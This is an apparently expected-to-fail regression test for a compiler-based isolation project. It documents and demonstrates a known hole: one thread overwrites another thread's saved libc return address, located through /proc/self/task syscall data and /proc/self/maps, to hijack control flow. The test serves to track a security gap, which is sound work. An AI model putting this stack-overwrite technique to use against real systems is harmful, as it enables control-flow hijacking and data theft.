// OPEN HOLE (XFAIL): under `sfi`, uninstrumented code (libc, the loader)
// runs on the calling thread's stack, which every thread of the calling
// domain may write, and returns with no check. Thread 1 of `evil` blocks
// in read(); thread 2 of `evil` finds thread 1's stack pointer in
// /proc/self/task/<tid>/syscall, overwrites the return address libc's
// read saved there with a function of evil's choosing, and writes the
// pipe: libc's `ret` goes there. An attack round turned the same overwrite
// into a chain of libc's own code that wrote vault's secret to stdout (the
// chain's gadgets are this libc's, so only the control transfer is tested
// here). Fixing it needs uninstrumented code off memory the domain's other
// threads write (docs/runtime.md, "What stays trusted under sfi").
// Control: under `none` the same transfer happens.
// XFAIL: *
// RUN: %dipc-clang -fdipc -fdipc-sfi -O2 %s -o %t.sfi -lpthread
// RUN: %dipc-bin-dir/dipc-run --backend=none %t.sfi 2>&1 | FileCheck %s --check-prefix=HIJACKED
// RUN: %dipc-bin-dir/dipc-run --backend=sfi %t.sfi 2>&1 | FileCheck %s --check-prefix=SFI
// HIJACKED: libc's return went to evil's chosen address
// SFI-NOT: evil's chosen address
// SFI: read returned 1 as called
#include "Inputs/vault.h"

#include <fcntl.h>
#include <pthread.h>
#include <unistd.h>

static volatile pid_t reader;
static int fds[2];
static uintptr_t program_lo, program_hi;

static void hijacked(void) {
  static const char msg[] = "libc's return went to evil's chosen address\n";
  (void)!write(STDOUT_FILENO, msg, sizeof msg - 1);
  _exit(0);
}

// The program's own mappings: where libc's read returns to.
static void find_program(void) {
  char self[512], line[1024];
  ssize_t n = readlink("/proc/self/exe", self, sizeof self - 1);
  FILE *maps = fopen("/proc/self/maps", "r");
  if (n <= 0 || !maps)
    return;
  self[n] = '\0';
  while (fgets(line, sizeof line, maps)) {
    unsigned long lo, hi;
    if (strstr(line, self) && sscanf(line, "%lx-%lx", &lo, &hi) == 2) {
      program_lo = program_lo ? program_lo : lo;
      program_hi = hi;
    }
  }
  fclose(maps);
}

// Thread 1's stack pointer while it waits in read (syscall 0), or 0.
static uintptr_t reader_sp(void) {
  char path[64], buf[512];
  snprintf(path, sizeof path, "/proc/self/task/%d/syscall", (int)reader);
  for (int i = 0; i < 2000; i++) {
    int fd = open(path, O_RDONLY);
    ssize_t n = fd >= 0 ? read(fd, buf, sizeof buf - 1) : -1;
    if (fd >= 0)
      close(fd);
    unsigned long nr, a[6], sp, pc;
    if (n > 0) {
      buf[n] = '\0';
      if (sscanf(buf, "%lu %lx %lx %lx %lx %lx %lx %lx %lx", &nr, &a[0],
                 &a[1], &a[2], &a[3], &a[4], &a[5], &sp, &pc) == 9 &&
          nr == 0)
        return sp;
    }
    usleep(1000);
  }
  return 0;
}

// Overwrites the first word above thread 1's stack pointer (to its page's
// end) that returns into the program, then wakes thread 1.
static void *overwriter(void *arg) {
  (void)arg;
  while (!reader)
    ;
  uintptr_t sp = reader_sp();
  if (sp) {
    volatile uintptr_t *word = (volatile uintptr_t *)sp;
    size_t words = ((sp | 4095) + 1 - sp) / sizeof *word;
    for (size_t i = 0; i < words; i++)
      if (word[i] >= program_lo && word[i] < program_hi) {
        word[i] = (uintptr_t)hijacked;
        break;
      }
  }
  (void)!write(fds[1], "x", 1);
  return NULL;
}

long attack(const char *mode, void *aux, const volatile char *secret, int key,
            char *loot) {
  (void)mode, (void)aux, (void)secret, (void)key, (void)loot;
  find_program();
  pthread_t t;
  if (!program_lo || pipe(fds) != 0 ||
      pthread_create(&t, NULL, overwriter, NULL) != 0)
    return -1;
  reader = (pid_t)syscall(SYS_gettid);
  char c;
  ssize_t n = read(fds[0], &c, 1);
  printf("read returned %zd as called\n", n);
  pthread_join(t, NULL);
  return 0;
}

int main(void) { return run_attack("hijack", NULL); }
